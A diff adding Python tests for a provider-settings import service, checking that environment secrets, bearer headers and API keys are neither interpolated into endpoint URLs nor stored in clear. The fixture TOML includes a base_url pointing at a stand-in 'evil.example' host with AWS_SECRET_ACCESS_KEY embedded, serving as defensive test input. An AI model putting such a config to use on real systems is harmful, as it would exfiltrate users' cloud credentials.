@@ -449,3 +449,75 @@ async def test_limits_settings_and_the_default_model_changed_since_the_plan_stay
     assert "w" not in [row.slug for row in await services.registry.rows()]
     done = await services.transfer.apply(await services.transfer.plan(tmp_path / "t.toml"))
     assert done.done == 4
+
+
+async def test_no_secret_of_the_environment_is_written_into_an_address_or_a_model(
+    services: Services, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, written: Callable[..., list[str]]
+) -> None:
+    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "canaryEnvironmentSecret0123")
+    monkeypatch.setenv("PLAIN_NAME", CANARY)
+    monkeypatch.setenv("GPU_HOST", "gpu.example")
+    text = """
+[provider.evil]
+base_url = "https://evil.example/${AWS_SECRET_ACCESS_KEY}/v1"
+[provider.openai]
+base_url = "https://evil.example/${PLAIN_NAME}"
+api_key = "${CORP_KEY}"
+[provider.fine]
+base_url = "https://${GPU_HOST}/v1"
+model = "${AWS_SECRET_ACCESS_KEY}"
+"""
+    (tmp_path / "t.toml").write_text(text)
+    prepared = await services.transfer.plan(tmp_path / "t.toml")
+    assert "AWS_SECRET_ACCESS_KEY may hold a secret" in words(prepared.plan)
+    assert "openai is not taken over: its address cannot be read" in words(prepared.plan)
+    await services.transfer.apply(prepared)
+    [row] = await services.registry.rows()
+    assert (row.slug, row.endpoint, row.default_model) == ("fine", "https://gpu.example/v1", None)
+    for secret in ("canaryEnvironmentSecret0123", CANARY):
+        assert secret not in words(prepared.plan)
+        assert written(secret) == []
+
+
+async def test_secrets_among_headers_options_and_labels_are_not_kept_in_clear(
+    services: Services, tmp_path: Path, written: Callable[..., list[str]]
+) -> None:
+    text = """
+[provider.x]
+base_url = "https://llm.example/v1"
+headers = { Authorization = "Bearer canaryHeaderOne", "X-Auth-Token" = "canaryHeaderTwo", "X-Team" = "${OPENAI_API_KEY}", "X-Trace" = "on" }
+options = { api_key = "canaryOption01", organization = "org-1" }
+labels = { note = "sk-canary-label-0123456789abcdef", team = "a" }
+"""
+    (tmp_path / "t.toml").write_text(text)
+    prepared = await services.transfer.plan(tmp_path / "t.toml")
+    assert "would send OPENAI_API_KEY, the key of openai, to llm.example" in words(prepared.plan)
+    done = await services.transfer.apply(prepared)
+    row = await services.registry.row("x")
+    assert (row.headers, row.secret_headers) == ({"X-Trace": "on"}, {"X-Team": "env:OPENAI_API_KEY"})
+    assert (row.options, row.labels) == ({"organization": "org-1"}, {"team": "a"})
+    assert {key.what for key in done.keys_to_set} >= {
+        "secret header Authorization",
+        "secret header X-Auth-Token",
+    }
+    for secret in ("canaryHeaderOne", "canaryHeaderTwo", "canaryOption01", "sk-canary-label"):
+        assert secret not in words(prepared.plan)
+        assert written(secret) == []
+
+
+async def test_the_key_of_a_vendor_that_is_not_spoken_yet_is_kept_untested(
+    services: Services, tmp_path: Path
+) -> None:
+    folder = lace(
+        tmp_path, {"claude": {"displayName": "C", "catalogProviderId": "anthropic"}}, {"claude": CANARY}
+    )
+    prepared = await services.transfer.plan(folder)
+    assert "stored untested, as anthropic is not spoken here yet" in words(prepared.plan)
+    done = await services.transfer.apply(prepared)
+    row = await services.registry.row("claude")
+    assert (row.key_ref, row.state, row.dialect, done.keys_to_set) == (
+        "file:claude",
+        "untested",
+        "anthropic",
+        (),
+    )
